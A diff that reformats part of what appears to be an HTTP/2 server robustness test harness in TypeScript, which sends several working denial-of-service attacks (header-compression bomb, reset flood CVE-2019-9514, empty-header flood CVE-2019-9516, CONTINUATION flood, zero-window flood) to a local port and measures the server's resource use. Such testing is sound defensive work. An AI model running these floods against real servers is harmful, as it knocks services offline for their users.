@@ -8,8 +8,7 @@
  * memory and descriptors are sampled, and reports what the attacker got.
  */
 import { readdirSync, readFileSync } from 'node:fs';
-import { connect as h2connect } from '../../src/h2/index.js';
-import { ErrorCode, errorCodeName, Flag, FrameType, SettingId } from '../../src/h2/index.js';
+import { ErrorCode, errorCodeName, Flag, FrameType, connect as h2connect, SettingId } from '../../src/h2/index.js';
 import { RawClient } from './h2-raw-client.js';
 
 export interface Outcome {
@@ -151,7 +150,8 @@ export function attacks(big: string, small: string): Record<string, Attack> {
       const pseudo = [0x82, 0x86, 0x84, 0x01, 0x01, 0x61];
       const entry = Buffer.concat([Buffer.from([0x40, 0x06]), Buffer.from('x-bomb'), Buffer.from([0x7f, 0xa1, 0x1e]), Buffer.alloc(4000, 0x62)]);
       c.send(c.split(1, Buffer.concat([Buffer.from(pseudo), entry])));
-      for (let i = 0; i < 50; i++) c.send(c.raw(FrameType.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, 3 + 2 * i, Buffer.concat([Buffer.from(pseudo), Buffer.alloc(1000, 0xbe)])));
+      for (let i = 0; i < 50; i++)
+        c.send(c.raw(FrameType.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, 3 + 2 * i, Buffer.concat([Buffer.from(pseudo), Buffer.alloc(1000, 0xbe)])));
       await settle(c, 1000);
       c.close();
       return describe(c);
@@ -204,7 +204,16 @@ export function attacks(big: string, small: string): Record<string, Attack> {
     // CVE-2019-9514: requests the server must reset (malformed), fast.
     'reset flood (CVE-2019-9514)': async (port) => {
       const c = await RawClient.open(port);
-      await flood(c, (i) => c.headersFrame(1 + 2 * i, [[':method', 'GET'], [':path', '/']]), 5000, 100);
+      await flood(
+        c,
+        (i) =>
+          c.headersFrame(1 + 2 * i, [
+            [':method', 'GET'],
+            [':path', '/'],
+          ]),
+        5000,
+        100,
+      );
       await settle(c);
       c.close();
       return describe(c);
@@ -224,7 +233,20 @@ export function attacks(big: string, small: string): Record<string, Attack> {
     // CVE-2019-9516: header fields with empty names.
     '0-length headers (CVE-2019-9516)': async (port) => {
       const c = await RawClient.open(port);
-      await flood(c, (i) => c.headersFrame(1 + 2 * i, [[':method', 'GET'], [':scheme', 'http'], [':authority', 'a'], [':path', small], ['', ''], ['', '']]), 5000, 100);
+      await flood(
+        c,
+        (i) =>
+          c.headersFrame(1 + 2 * i, [
+            [':method', 'GET'],
+            [':scheme', 'http'],
+            [':authority', 'a'],
+            [':path', small],
+            ['', ''],
+            ['', ''],
+          ]),
+        5000,
+        100,
+      );
       await settle(c);
       c.close();
       return describe(c);
@@ -267,7 +289,19 @@ export function attacks(big: string, small: string): Record<string, Attack> {
     // 2024: a header block that never ends, in one-octet CONTINUATION frames.
     'CONTINUATION flood (2024)': async (port) => {
       const c = await RawClient.open(port);
-      c.send(c.raw(FrameType.HEADERS, Flag.END_STREAM, 1, c.encode([[':method', 'GET'], [':scheme', 'http'], [':authority', 'a'], [':path', '/']])));
+      c.send(
+        c.raw(
+          FrameType.HEADERS,
+          Flag.END_STREAM,
+          1,
+          c.encode([
+            [':method', 'GET'],
+            [':scheme', 'http'],
+            [':authority', 'a'],
+            [':path', '/'],
+          ]),
+        ),
+      );
       const one = c.raw(FrameType.CONTINUATION, 0, 1, [0x41]);
       await flood(c, () => one, 200_000, 1000);
       await settle(c);
@@ -289,7 +323,14 @@ export function attacks(big: string, small: string): Record<string, Attack> {
       for (let k = 0; k < 10; k++) {
         const c = await RawClient.open(port, [[SettingId.INITIAL_WINDOW_SIZE, 0]]);
         cs.push(c);
-        const pseudo = Buffer.from(c.encode([[':method', 'GET'], [':scheme', 'http'], [':authority', 'a'], [':path', big]]));
+        const pseudo = Buffer.from(
+          c.encode([
+            [':method', 'GET'],
+            [':scheme', 'http'],
+            [':authority', 'a'],
+            [':path', big],
+          ]),
+        );
         const frames: Uint8Array[] = [];
         for (let i = 0; i < 100; i++) frames.push(c.split(1 + 2 * i, Buffer.concat([pseudo, Buffer.alloc(1000, 0x90)])));
         c.send(...frames);
